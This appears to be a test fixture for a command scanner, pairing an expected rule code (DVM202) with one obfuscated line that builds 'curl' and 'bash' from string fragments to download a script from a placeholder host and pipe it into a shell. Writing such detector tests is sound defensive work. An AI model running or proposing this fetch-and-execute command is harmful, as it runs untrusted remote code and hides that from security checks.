# expect: DVM202
$(printf 'cu%s' rl) -s https://x.example.org/i.sh | $(echo ba)$(echo sh)
